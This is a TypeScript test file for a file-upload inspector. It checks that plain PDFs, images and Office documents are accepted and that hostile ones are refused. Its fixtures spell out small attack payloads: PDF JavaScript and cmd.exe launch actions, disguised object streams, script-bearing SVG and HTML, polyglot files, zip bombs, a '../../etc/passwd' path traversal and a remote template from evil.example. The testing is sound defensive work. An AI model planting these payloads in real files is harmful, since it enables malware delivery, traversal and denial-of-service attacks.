import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inspectFile } from '#functions/http/inspect-file.ts';
import { isRefusal } from '#shared/domain/refusal.ts';
import {
  chunk,
  eicar,
  joined,
  jpeg,
  office,
  packedObjects,
  pdf,
  png,
  streamed,
  zip,
} from './hostile-files.ts';

const verdict = async (bytes: Buffer) => {
  const found = await inspectFile(bytes);
  return isRefusal(found) ? found.problems?.[0]?.code : found.kind;
};

const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>';
const hidden = packedObjects(`<< ${script} >>`);

describe('a file', () => {
  it.each([
    ['pdf', pdf()],
    ['pdf', pdf('', streamed('/Subtype /Image /Filter /DCTDecode', '\u00ff\u00d8/JS (/XFAx'))],
    [
      'pdf',
      pdf('', packedObjects('<< >>') + streamed('/Subtype /Image /Filter /CCITTFaxDecode', 'x\u009cfax')),
    ],
    [
      'pdf',
      pdf(
        '/Outlines << /First 5 0 R >>',
        streamed('/Filter /FlateDecode', deflateSync('BT ET').toString('latin1')),
      ),
    ],
    ['pdf', pdf('/OpenAction [3 0 R /Fit]', packedObjects('<< /Type /Page /Contents 5 0 R >>'))],
    ['jpeg', jpeg()],
    ['png', png()],
    ['docx', office('docx')],
    ['xlsx', office('xlsx', [{ name: 'xl/printerSettings/printerSettings1.bin', text: 'printer' }])],
    [
      'docx',
      office('docx', [
        {
          name: 'word/_rels/document.xml.rels',
          text: '<Relationship Type="http://x/relationships/hyperlink" Target="https://example.org" TargetMode="External"/>',
        },
      ]),
    ],
  ])('that is a plain %s is known by its content', async (kind, bytes) => {
    expect(await verdict(bytes)).toBe(kind);
  });

  it.each([
    ['EICAR', 'content', Buffer.from(eicar)],
    ['EICAR inside a PDF', 'content', pdf('', eicar)],
    ['EICAR packed into a document', 'content', office('docx', [{ name: 'word/a.txt', text: eicar }])],
    ['nothing at all', 'type', Buffer.alloc(0)],
    ['plain text', 'type', Buffer.from('帮扶工作方案')],
    ['SVG', 'type', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['HTML', 'type', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['a program', 'type', joined('MZ', Buffer.alloc(200))],
    ['GIF', 'type', joined('GIF89a', Buffer.alloc(40))],
    ['an old Word file', 'type', joined(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600))],
    ['a PDF with JavaScript', 'content', pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['a PDF that spells JavaScript in codes', 'content', pdf('/Names << /J#61vaScript 3 0 R >>')],
    ['a PDF that starts a program', 'content', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['a PDF that carries a file', 'content', pdf('/Names << /EmbeddedFiles 3 0 R >>')],
    ['a PDF with a form of scripts', 'content', pdf('/AcroForm << /XFA 3 0 R >>')],
    ['an encrypted PDF', 'content', pdf('/Encrypt 3 0 R')],
    ['a PDF with JavaScript behind a comment', 'content', pdf(`% stream\n${script}\n% endstream\n`)],
    [
      'a PDF with JavaScript behind a false text',
      'content',
      pdf(`/A (\n>>\nstream\n) ${script} (\nendstream\n)`),
    ],
    [
      'a PDF with an object inside a stream',
      'content',
      pdf('', streamed('/Length 60', `9 0 obj << ${script} >> endobj`)),
    ],
    ['a PDF with a rendition that runs a script', 'content', pdf('/OpenAction << /S /Rendition /JS (x) >>')],
    ['a PDF that hides JavaScript behind a comment', 'content', pdf('% stream\n', hidden)],
    [
      'a PDF that hides JavaScript under another name',
      'content',
      pdf('', hidden.replace('/ObjStm', '/Obj#53tm')),
    ],
    ['a PDF that hides JavaScript without a name', 'content', pdf('', hidden.replace('/Type /ObjStm', ''))],
    [
      'a PDF that hides JavaScript in what calls itself a picture',
      'content',
      pdf('', hidden.replace('/Type /ObjStm', '/Subtype /Image')),
    ],
    [
      'a PDF that hides JavaScript behind a false object',
      'content',
      pdf('', hidden.replace('/Length', '/X <\nendobj 9 0 obj << > /Length')),
    ],
    [
      'a PDF that hides JavaScript and checks wrongly',
      'content',
      pdf('', hidden.replace(/....\nendstream/s, 'four\nendstream')),
    ],
    ['a PDF that hides JavaScript', 'content', pdf('', packedObjects('<< /S /JavaScript /JS (x) >>'))],
    [
      'a PDF with a broken stream of objects',
      'content',
      pdf('', packedObjects('x').replace('stream\nx', 'stream\n!!')),
    ],
    ['a PDF that does not end', 'content', Buffer.from('%PDF-1.7\n1 0 obj')],
    ['a PDF behind something else', 'type', joined('GIF', pdf())],
    ['a PDF with an archive behind it', 'content', joined(pdf(), office('docx'))],
    ['a picture with an archive behind it', 'content', joined(jpeg(), zip([{ name: 'a', text: 'b' }]))],
    ['a picture that is also a page', 'content', jpeg('<script>alert(1)</script>')],
    ['a picture that is also a PDF', 'content', jpeg(pdf().toString('latin1'))],
    ['a PNG with something behind it', 'content', joined(png(), 'more')],
    ['a PNG of ten thousand million pixels', 'content', png(100_000)],
    ['an animated PNG', 'type', png(1, [chunk('acTL', Buffer.alloc(8)), chunk('IDAT', Buffer.alloc(2))])],
    ['a PNG without a picture', 'content', png(1, [])],
    ['a PNG that begins with another chunk', 'type', png().fill('CgBI', 12, 16)],
    ['the first bytes of a PNG', 'type', png().subarray(0, 12)],
    ['a PNG that breaks off', 'content', png().subarray(0, -4)],
    ['JPEG-LS', 'type', jpeg().fill(0xf7, 3, 4)],
    ['a JPEG that does not end', 'content', jpeg().subarray(0, -2)],
    ['a JPEG without a picture', 'content', joined(jpeg().subarray(0, 20), jpeg().subarray(-2))],
    ['a JPEG of segments that lie about their length', 'content', jpeg().fill(0xff, 4, 6)],
    ['a JPEG of two thousand million pixels', 'content', jpeg('', [], 50_000)],
    [
      'a document with a macro',
      'content',
      office('docx', [{ name: 'word/vbaProject.bin', text: 'Sub AutoOpen()' }]),
    ],
    [
      'a workbook with an old macro sheet',
      'content',
      office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', text: '<a/>' }]),
    ],
    [
      'a document that carries another',
      'content',
      office('docx', [{ name: 'word/embeddings/oleObject1.bin', text: 'MZ' }]),
    ],
    [
      'a macro document that was renamed',
      'content',
      office('docx', [], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    [
      'a document that fetches its template',
      'content',
      office('docx', [
        {
          name: 'word/_rels/settings.xml.rels',
          text: '<Relationship Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        },
      ]),
    ],
    [
      'a document with entities',
      'content',
      office('docx', [{ name: 'word/a.xml', text: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]),
    ],
    ['an archive that is no document', 'type', zip([{ name: 'a.txt', text: 'b' }])],
    ['a document behind something else', 'content', joined('x', office('docx'))],
    ['a document with something behind it', 'content', joined(office('docx'), 'more')],
    [
      'a bomb that says what it holds',
      'content',
      office('docx', [{ name: 'word/a.txt', text: '0'.repeat(20_000_000) }]),
    ],
    [
      'a bomb that lies',
      'content',
      office('docx', [{ name: 'word/a.txt', text: '0'.repeat(20_000_000), declared: 100 }]),
    ],
    ['a PDF of streams that never end', 'content', pdf('', 'stream\n/ObjStm '.repeat(200_000))],
    ['an archive that climbs out', 'content', office('docx', [{ name: '../../etc/passwd', text: 'x' }])],
    [
      'an archive that names a part twice',
      'content',
      office('docx', [{ name: 'word/document.xml', text: 'other' }]),
    ],
  ])('that is %s is refused as %s', async (_, code, bytes) => {
    expect(await verdict(bytes)).toBe(code);
  });
});
